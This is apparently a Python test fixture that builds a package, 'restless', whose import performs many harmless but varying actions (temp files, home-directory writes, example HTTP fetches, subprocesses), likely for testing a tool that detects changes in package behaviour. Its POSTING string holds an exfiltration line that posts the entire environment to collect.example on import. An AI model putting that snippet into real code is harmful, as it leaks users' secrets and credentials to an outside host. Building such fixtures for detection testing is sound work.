"""A package that does the same in every run, and in none of them with the same names, numbers and times."""

from __future__ import annotations

from typing import TYPE_CHECKING

from tests.packages import make_wheel

if TYPE_CHECKING:
    from pathlib import Path

MODULE = """
import hashlib, json, multiprocessing.shared_memory, os, secrets, socket, subprocess, sys, tempfile, threading, time, uuid
import urllib.request

VERSION = "{version}"

def fetch(url, **more):
    try:
        with urllib.request.urlopen(url, timeout=5, **more) as answer:
            answer.read()
    except OSError:
        pass

with tempfile.NamedTemporaryFile(suffix=".txt") as file:
    file.write(b"text")
with tempfile.TemporaryDirectory(prefix="restless-") as folder:
    with open(os.path.join(folder, "data.bin"), "wb") as file:
        file.write(os.urandom(16))
with open(os.path.expanduser(f"~/.restless-{{uuid.uuid4()}}"), "w") as file:
    file.write("here")
os.makedirs(os.path.expanduser("~/.cache/restless"), exist_ok=True)
with open(os.path.expanduser(f"~/.cache/restless/{{hashlib.sha256(os.urandom(8)).hexdigest()}}.json"), "w") as file:
    json.dump({{"version": VERSION}}, file)
open("/etc/hostname").close()
open(f"/proc/{{os.getpid()}}/status").close()
memory = multiprocessing.shared_memory.SharedMemory(create=True, size=64)
memory.close()
memory.unlink()

fetch(f"http://api.example/v1/hello?id={{uuid.uuid4()}}&at={{int(time.time())}}&nonce={{secrets.token_urlsafe(16)}}7")
fetch(f"http://api.example/releases/{{VERSION}}/notes?lang=en")
fetch("https://tls.example:8443/fixed", data=os.urandom(24))
fetch(f"http://api.example/{{time.strftime('%Y-%m-%d')}}/log")

with socket.create_server(("127.0.0.1", 0)) as server, socket.create_connection(server.getsockname()) as client:
    client.sendall(b"hello")
thread = threading.Thread(target=time.time)
thread.start()
thread.join()

subprocess.run([sys.executable, "-c", f"import os; os.stat({{tempfile.gettempdir()!r}})"])
subprocess.run(["/bin/sh", "-c", f"sleep 0.2; kill -0 {{os.getpid()}}"])
subprocess.run(["uname", "-a"], stdout=subprocess.DEVNULL)
time.sleep(0.5)
"""

POSTING = """
import json as _json, os as _os, urllib.request as _request
try:
    _request.urlopen("http://collect.example/new", data=_json.dumps(dict(_os.environ)).encode(), timeout=5).read()
except OSError:
    pass
"""


def restless_wheel(folder: Path, version: str, more: str = "") -> Path:
    """The package in one version, with what the module does beyond that."""
    return make_wheel(folder, "restless", version, {"restless/__init__.py": MODULE.format(version=version) + more})
